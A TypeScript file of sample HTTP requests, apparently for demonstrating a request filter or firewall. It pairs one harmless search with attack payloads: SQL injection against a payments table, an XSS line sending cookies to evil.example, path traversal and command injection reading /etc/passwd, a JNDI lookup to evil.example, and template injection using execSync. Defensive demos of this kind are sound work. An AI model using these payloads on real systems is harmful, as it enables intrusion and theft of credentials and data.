// Requests to begin with: one that is harmless, and one of each kind of attack.
import { demoText as text } from '../../texts/demo.js';

export interface DemoRequest {
  readonly method: string;
  readonly uri: string;
  /** One a line. */
  readonly headers: string;
  readonly body: string;
}

export interface Example extends DemoRequest {
  readonly title: string;
}

const browser = 'User-Agent: Mozilla/5.0 (X11; Linux x86_64) demo\nAccept: text/html';
const form = `${browser}\nContent-Type: application/x-www-form-urlencoded`;
const get = (title: string, uri: string, headers = browser): Example => ({
  title,
  method: 'GET',
  uri,
  headers,
  body: '',
});
const post = (title: string, uri: string, body: string): Example => ({
  title,
  method: 'POST',
  uri,
  headers: form,
  body,
});

export const examples: readonly Example[] = [
  get(text.search, '/search?q=winter coat&size=40'),
  get(text.sqlInjection, "/search?q=coat' UNION SELECT card, owner FROM payments -- "),
  post(text.crossSite, '/comments', 'name=Ann&text=<script>new Image().src="//evil.example/"+document.cookie</script>'),
  get(text.traversal, '/download?file=../../../../etc/passwd'),
  post(text.command, '/tools/ping', 'host=127.0.0.1; cat /etc/passwd'),
  get(text.lookup, '/', `${browser}\nX-Api-Version: \${jndi:ldap://evil.example/a}`),
  post(text.template, '/profile', "signature={{require('child_process').execSync('cat /etc/passwd')}}"),
  get(text.scanner, '/', 'User-Agent: sqlmap/1.8\nAccept: */*'),
];
